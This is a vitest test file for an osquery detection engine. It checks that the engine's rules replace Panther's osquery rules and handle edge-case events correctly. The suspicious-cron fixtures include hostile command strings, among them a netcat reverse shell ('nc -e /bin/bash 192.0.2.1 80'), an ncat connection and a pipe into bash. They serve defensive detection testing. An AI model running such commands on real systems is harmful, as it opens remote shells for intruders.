import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import * as z from 'zod'
import { packs, rules } from '../../rules/index.ts'
import { createEngine } from '../../src/detect/engine.ts'
import type { HostFacts, HostId, OsqueryEvent } from '../../src/detect/event.ts'
import type { Finding } from '../../src/detect/finding.ts'
import { createNormalizer } from '../../src/ingest/normalize.ts'

/**
 * The rules of Panther for osquery, as ours: the verdicts of its own tests (their data is read where it lies beside this
 * repository and never copied into it), and events on which its rules fail, under every way to name a query.
 */

const DATA = join(import.meta.dirname, '../../../shared/data')
const PANTHER = join(DATA, 'panther/rule_tests.json')
const STREAMALERT = join(DATA, 'corpora/streamalert/rule_tests.ndjson')

type Json = Readonly<Record<string, unknown>>

// Those that are off by default as well.
const engine = createEngine(rules.map(rule => ({ ...rule, enabled: true })))
const normalizer = createNormalizer(packs)
const HOST = 'host-1' as HostId // any text is a host id here

/** 2026-11-24 00:00:00 UTC, when nothing else is said. */
const TODAY_SECONDS = 1_795_478_400

/** A record that bears no time was received a minute after the time of its row. */
function receivedAt({ columns }: Json): number {
  const row = z.object({ time: z.coerce.number() }).safeParse(columns)
  return ((row.success ? row.data.time : TODAY_SECONDS) + 60) * 1000
}

function eventsOf(record: Json): readonly OsqueryEvent[] {
  const events: OsqueryEvent[] = []
  expect(
    normalizer.post({ hostId: HOST, receivedAt: receivedAt(record) }).add(record, false, events),
  ).toBeNull()
  return events
}

function findingsOf(record: Json): readonly Finding[] {
  return eventsOf(record).flatMap(event => {
    const name = event.hostIdentifier || 'test-host'
    const facts: HostFacts = { id: HOST, name, platform: event.decorations['platform'] ?? '', tags: [] }
    return engine.evaluate(event, facts)
  })
}

/** Ids of our rules that matched and stand in for this one. */
function standIns(findings: readonly Finding[], replaced: string): readonly string[] {
  const ours = new Set(rules.filter(({ replaces }) => replaces.includes(replaced)).map(({ id }) => id))
  return findings
    .filter(({ kind, ruleId }) => kind === 'match' && ours.has(ruleId))
    .map(({ ruleId }) => ruleId)
}

const RULES = [
  'Osquery.Linux.AWSCommandExecuted',
  'Osquery.Linux.LoginFromNonOffice',
  'Osquery.Linux.Mac.VulnerableXZliblzma',
  'Osquery.Mac.ApplicationFirewallSettings',
  'Osquery.Mac.AutoUpdateEnabled',
  'Osquery.Mac.OSXAttacks',
  'Osquery.Mac.OSXAttacksKeyboardEvents',
  'Osquery.Mac.UnwantedChromeExtensions',
  'Osquery.OSSECRootkitDetected',
  'Osquery.OutdatedAgent',
  'Osquery.SSHListener',
  'Osquery.SuspiciousCron',
  'Osquery.UnsupportedMacOS',
] as const

it.each(RULES)('%s has a rule of ours that stands in for it', replaced => {
  expect(rules.filter(({ replaces }) => replaces.includes(replaced))).not.toEqual([])
})

describe.runIf(existsSync(PANTHER))('the verdict of its own test', () => {
  const Tests = z.array(
    z.object({
      rule_id: z.string(),
      test_name: z.string(),
      expected_result: z.boolean(),
      log: z.record(z.string(), z.unknown()),
    }),
  )
  const tests = existsSync(PANTHER) ? Tests.parse(JSON.parse(readFileSync(PANTHER, 'utf8'))) : []

  it('is known of all of its rules', () => {
    expect([...new Set(tests.map(({ rule_id }) => rule_id))].sort()).toEqual([...RULES].sort())
    expect(tests).toHaveLength(37)
  })

  it.each(tests.map(test => [`${test.rule_id}: ${test.test_name}`, test] as const))(
    'is ours: %s',
    (_name, { rule_id, expected_result, log }) => {
      const findings = findingsOf(log)
      expect(findings.filter(({ kind }) => kind === 'rule_error')).toEqual([])
      expect(standIns(findings, rule_id).length > 0).toBe(expected_result)
    },
  )
})

describe.runIf(existsSync(STREAMALERT))('the rule tests of StreamAlert', () => {
  /** Its rules and ours. */
  const OURS: Readonly<Record<string, string>> = {
    ssh_login_activity: 'posix.ssh-login',
    right_to_left_character: 'posix.text-runs-backwards',
  }
  const Test = z.object({
    _expect_rules: z.array(z.string()),
    record: z.record(z.string(), z.unknown()),
  })
  const lines = existsSync(STREAMALERT) ? readFileSync(STREAMALERT, 'utf8').split('\n') : []
  const tests = lines.filter(line => line !== '').map(line => Test.parse(JSON.parse(line)))

  it('expect something', () => {
    expect(tests.flatMap(({ _expect_rules: names }) => names).sort()).toEqual(Object.keys(OURS).sort())
  })

  it.each(tests.map((test, index) => [index + 1, test] as const))(
    'find in record %i what is expected, and nothing else of it',
    (_index, { _expect_rules: names, record }) => {
      const found = findingsOf(record).map(({ ruleId }) => ruleId)
      const expected = names.map(name => OURS[name])
      expect(found.filter(id => Object.values(OURS).includes(id))).toEqual(expected)
    },
  )
})

/** An event on which a rule of Panther says the wrong thing or throws, and what is right. */
interface Edge {
  readonly name: string
  readonly columns: Json
  readonly match: boolean
  readonly action?: string
  readonly decorations?: Json
  /** Query, when it is not that of the group. */
  readonly query?: string
  readonly unixTime?: number
}

interface EdgeGroup {
  readonly rule: (typeof RULES)[number]
  readonly pack: string
  readonly query: string
  readonly edges: readonly Edge[]
}

const yes = (name: string, columns: Json, more: Partial<Edge> = {}): Edge => ({
  name,
  columns,
  match: true,
  ...more,
})
const no = (name: string, columns: Json, more: Partial<Edge> = {}): Edge => ({
  name,
  columns,
  match: false,
  ...more,
})

const typed = (command: string) => ({
  uid: '1000',
  username: 'ada',
  command,
  history_file: '/home/ada/.bash_history',
  time: '0',
})
const job = (command: string) => ({
  event: '',
  minute: '17',
  hour: '*',
  command,
  path: '/var/spool/cron/crontabs/ada',
})
const login = (host: string, username = 'ada') => ({
  username,
  tty: 'pts/0',
  pid: '12',
  type: '7',
  time: `${TODAY_SECONDS}`,
  host,
})
const packaged = (name: string, version: string) => ({
  name,
  version,
  source: name,
  size: '1',
  arch: 'amd64',
  status: 'install ok installed',
})
const listener = (columns: Json) => ({
  pid: '7',
  port: '22',
  protocol: '6',
  family: '2',
  address: '0.0.0.0',
  ...columns,
})
const alf = (columns: Json) => ({
  allow_signed_enabled: '1',
  firewall_unload: '0',
  logging_enabled: '1',
  version: '1.6',
  ...columns,
})
const agent = (version: string) => ({
  pid: '223',
  uuid: 'a',
  instance_id: 'b',
  version,
  config_valid: '1',
  extensions: 'active',
  watcher: '92',
})
const macos = (version: string, platform = 'darwin') => ({
  name: 'macOS',
  version,
  build: 'x',
  platform,
  codename: '',
})

const GROUPS: readonly EdgeGroup[] = [
  {
    rule: 'Osquery.Linux.AWSCommandExecuted',
    pack: 'incident-response',
    query: 'shell_history',
    edges: [
      no('nothing but blanks', typed('   ')),
      yes('a variable before it', typed('AWS_PROFILE=prod aws s3 ls')),
      yes('by sudo', typed('sudo -u deploy aws s3 ls')),
      yes('by aws-vault', typed('aws-vault exec prod -- aws s3 ls')),
      yes('by its path', typed('/usr/local/bin/aws s3 ls')),
      yes('after another command', typed('cd /srv && aws s3 sync . s3://example')),
      yes('a quote that never closes', typed("aws s3 ls 'x")),
      no('only spoken of', typed('man aws')),
    ],
  },
  {
    rule: 'Osquery.Linux.LoginFromNonOffice',
    pack: 'incident-response',
    query: 'last',
    edges: [
      yes('an IPv6 address', login('2001:db8::7')),
      yes('the name of a host', login('gw.example.com')),
      no('the console', login('')),
      no('a display', login(':0')),
      no('within the office, IPv4 within IPv6', login('::ffff:192.168.1.7')),
      no(
        'a query that only has "last" in its name',
        { name: 'elasticsearch', host: '198.51.100.7' },
        { query: 'elastic_hosts' },
      ),
    ],
  },
  {
    rule: 'Osquery.Linux.Mac.VulnerableXZliblzma',
    pack: 'vuln-management',
    query: 'deb_packages',
    edges: [
      yes('the package', packaged('xz-utils', '5.6.1-1')),
      no('the package is taken out', packaged('xz-utils', '5.6.1-1'), { action: 'removed' }),
      no('the way back of Debian', packaged('xz-utils', '5.6.1+really5.4.5-1')),
      no('a version that begins alike', packaged('xz-utils', '5.6.10-1')),
      yes('a version with an epoch', packaged('xz-libs', '1:5.6.0-1')),
    ],
  },
  {
    rule: 'Osquery.Mac.ApplicationFirewallSettings',
    pack: 'incident-response',
    query: 'alf',
    edges: [
      no('without the columns', alf({})),
      no('with empty columns', alf({ global_state: '', stealth_enabled: '' })),
      yes('as numbers', alf({ global_state: 0, stealth_enabled: 1 })),
      yes('only stealth mode', alf({ global_state: '1', stealth_enabled: '0' })),
    ],
  },
  {
    rule: 'Osquery.Mac.OSXAttacks',
    pack: 'osx-attacks',
    query: 'OSX_Snake',
    edges: [
      yes('a file', { path: '/Library/Scripts/queue' }),
      no('the file is gone', { path: '/a' }, { action: 'removed' }),
    ],
  },
  {
    rule: 'Osquery.Mac.OSXAttacksKeyboardEvents',
    pack: 'osx-attacks',
    query: 'Keyboard_Event_Taps',
    edges: [
      yes('what is not of macOS in /usr', { path: '/usr/local/bin/a', name: 'a', pid: '7' }),
      yes('a folder for everyone', { path: '/var/tmp/a', name: 'a', pid: '7' }),
      yes('a name that is on a list', { path: '/Users/ada/a', name: 'Adobe Photoshop CC 2019', pid: '7' }),
      no('without a path', { name: 'a', pid: '7' }),
    ],
  },
  {
    rule: 'Osquery.Mac.UnwantedChromeExtensions',
    pack: 'unwanted-chrome-extensions',
    query: 'Nano Defender ',
    edges: [yes('an extension', { uid: '501', name: 'Nano Defender', identifier: 'a', version: '1' })],
  },
  {
    rule: 'Osquery.OSSECRootkitDetected',
    pack: 'ossec-rootkit',
    query: 'showtee_/_romanian_rootkit',
    edges: [yes('a file', { path: '/usr/include/file.h' })],
  },
  {
    rule: 'Osquery.OutdatedAgent',
    pack: 'it-compliance',
    query: 'osquery_info',
    edges: [
      no('newer than any that was known', agent('5.23.1')),
      no('newer by number, not by text', agent('10.0.0')),
      yes('older by number, not by text', agent('5.9.1')),
      no('without a version', {
        pid: '223',
        instance_id: 'b',
        config_valid: '1',
        extensions: 'active',
        watcher: '92',
        uuid: 'a',
      }),
    ],
  },
  {
    rule: 'Osquery.UnsupportedMacOS',
    pack: 'vuln-management',
    query: 'os_version',
    edges: [
      no('the latest', macos('26.1')),
      no('the one before', macos('15.7.2')),
      yes('one that was on the list', macos('10.15.3')),
      no('another system', macos('22.04', 'ubuntu')),
    ],
  },
  {
    rule: 'Osquery.SSHListener',
    pack: 'incident-response',
    query: 'listening_ports',
    edges: [
      yes('as a number', listener({ port: 22 })),
      no('for the host itself', listener({ address: '127.0.0.1' })),
      no('it stopped', listener({}), { action: 'removed' }),
    ],
  },
  {
    rule: 'Osquery.SuspiciousCron',
    pack: 'incident-response',
    query: 'crontab',
    edges: [
      no('the job is gone', job('nc -e /bin/bash 192.0.2.1 80'), { action: 'removed' }),
      yes('an address without encryption', job('/opt/report http://example.com')),
      yes('a quote that never closes', job('curl -s "http://example.com')),
      yes('a program by its path', job('/usr/bin/curl -s example.com')),
      yes('another name of netcat', job('ncat 192.0.2.1 80')),
      yes('shared memory', job('/dev/shm/.a')),
      yes('a pipe whose output goes nowhere', job('/opt/a | bash >/dev/null 2>&1')),
      no('a word that ends like a shell', job('/usr/bin/list | grep refresh')),
      no('a log in /tmp', job('/usr/bin/job > /tmp/job.log')),
      no('no command', { ...job(''), event: '@daily' }),
    ],
  },
]

/** How a fleet may have called the query. */
const NAMES: readonly (readonly [string, (pack: string, query: string) => string])[] = [
  ['pack_x_y', (pack, query) => `pack_${pack}_${query}`],
  ['pack/x/y', (pack, query) => `pack/${pack}/${query}`],
  ['pack:x:y', (pack, query) => `pack:${pack}:${query}`],
  ["Fleet's pack/team-1/y", (_, query) => `pack/team-1/${query}`],
  ["Fleet's pack/Global/y", (_, query) => `pack/Global/${query}`],
  ['y', (_, query) => query],
]

describe.each(NAMES)('where Panther is wrong, with queries called %s', (_naming, nameOf) => {
  const edges = GROUPS.flatMap(group => group.edges.map(edge => ({ ...group, ...edge, group: group.query })))

  it.each(edges)('$rule is right: $name', ({ rule, pack, query, group, ...edge }) => {
    const record = {
      name: nameOf(pack, query),
      action: edge.action ?? 'added',
      hostIdentifier: 'test-host',
      unixTime: edge.unixTime ?? TODAY_SECONDS + 60,
      counter: 5,
      epoch: 0,
      decorations: edge.decorations ?? {},
      columns: edge.columns,
    }
    const findings = findingsOf(record)
    expect(findings.filter(({ kind }) => kind === 'rule_error')).toEqual([])
    expect(standIns(findings, rule).length > 0, `${group} ${edge.name}`).toBe(edge.match)
  })
})

describe('an event that lacks what it should have', () => {
  it.each(RULES)('makes no rule that stands in for %s throw', replaced => {
    const ours = rules.filter(({ replaces }) => replaces.includes(replaced))
    expect(ours.length).toBeGreaterThan(0)
    for (const rule of ours) {
      const [name = ''] = rule.on.kind === 'pack' ? (rule.on.queries ?? []) : rule.on.names
      const bare = { name, action: 'added', columns: {}, hostIdentifier: '' }
      for (const record of [bare, { ...bare, name: '' }, { ...bare, columns: { command: '"' } }]) {
        expect(findingsOf(record).filter(({ kind }) => kind === 'rule_error')).toEqual([])
      }
    }
  })
})
